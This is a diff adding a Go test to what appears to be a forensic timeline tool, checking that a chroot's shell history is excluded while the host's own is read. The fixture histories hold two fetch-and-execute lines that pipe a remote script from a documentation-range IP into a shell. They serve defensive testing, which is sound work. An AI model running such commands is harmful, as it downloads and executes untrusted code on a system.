@@ -448,3 +448,22 @@ func TestImplantFirstRun(t *testing.T) {
 		t.Errorf("entry %+v, want the login just before the first run", rep.Entry)
 	}
 }
+
+// TestNestedRootHistories: a chroot's or image's shell histories are another system's, and stay
+// off this host's timeline; the host's own are read.
+func TestNestedRootHistories(t *testing.T) {
+	r := fixture.Debian(t)
+	r.File("/srv/jail/var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\nVersion: 12\n\n", 0o644)
+	r.File("/srv/jail/root/.bash_history", "curl -s http://203.0.113.5/x.sh | bash\n", 0o600)
+	r.File("/root/.bash_history", "wget -qO- http://198.51.100.9/m.sh | sh\n", 0o600)
+	rep := investigateRoot(t, r)
+	var paths []string
+	for _, e := range rep.Timeline {
+		if e.Source == "history" {
+			paths = append(paths, e.Path)
+		}
+	}
+	if len(paths) != 1 || paths[0] != "/root/.bash_history" {
+		t.Errorf("history rows from %v, want only /root/.bash_history", paths)
+	}
+}
